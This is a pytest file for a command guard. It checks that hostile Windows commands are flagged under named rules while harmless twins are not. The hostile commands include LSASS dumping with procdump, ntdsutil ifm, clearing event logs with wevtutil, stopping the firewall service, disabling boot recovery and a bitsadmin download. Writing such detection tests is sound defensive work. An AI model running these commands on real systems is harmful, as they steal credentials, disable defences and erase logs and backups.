"""Programs of Windows: a row of each kind with its twin."""

import pytest

from demur.guards.code_execution.event import Command, CommandConfig, Language
from demur.guards.code_execution.guard import check


def rules(text: str) -> list[str]:
    event = Command(text=text, language=Language.CMD)
    return [finding.evidence["rule"] for finding in check(event, CommandConfig())]


@pytest.mark.parametrize(
    ("text", "twin", "want"),
    [
        ("reg delete HKLM\\x", "reg query HKLM\\x", "DELETE_FILE_OUTSIDE"),
        ("schtasks /create /tn x", "schtasks /query", "STARTUP_JOB"),
        ("sc config x binpath= y", "sc qc x", "SERVICE_CREATE"),
        ("net stop mpssvc", "net start", "DEFENCE_OFF"),
        ("netsh interface portproxy add v4tov4 x", "netsh interface show", "TUNNEL"),
        ("bcdedit /set {default} recoveryenabled no", "bcdedit", "DELETE_BACKUPS"),
        ("wevtutil cl System", "wevtutil el", "DELETE_LOGS"),
        ("fltmc unload x", "fltmc", "DEFENCE_OFF"),
        ("takeown /f C:\\x", "dir C:\\x", "OWNERSHIP"),
        ("ntdsutil ifm", "nslookup x", "CREDENTIAL_DUMP"),
        ("procdump -ma lsass.exe", "procdump -?", "CREDENTIAL_DUMP"),
        ("bitsadmin /transfer x http://a.example y", "bitsadmin /list", "DOWNLOAD_TOOL"),
        ("rundll32 javascript:x", "notepad x", "REMOTE_SCRIPT"),
        ("wmic process call create x", "wmic os get name", "REMOTE_EXECUTION"),
        ("anydesk --silent", "notepad", "TUNNEL"),
    ],
)
def test_a_verb_and_its_twin(text: str, twin: str, want: str) -> None:
    assert want in rules(text)
    assert want not in rules(twin)
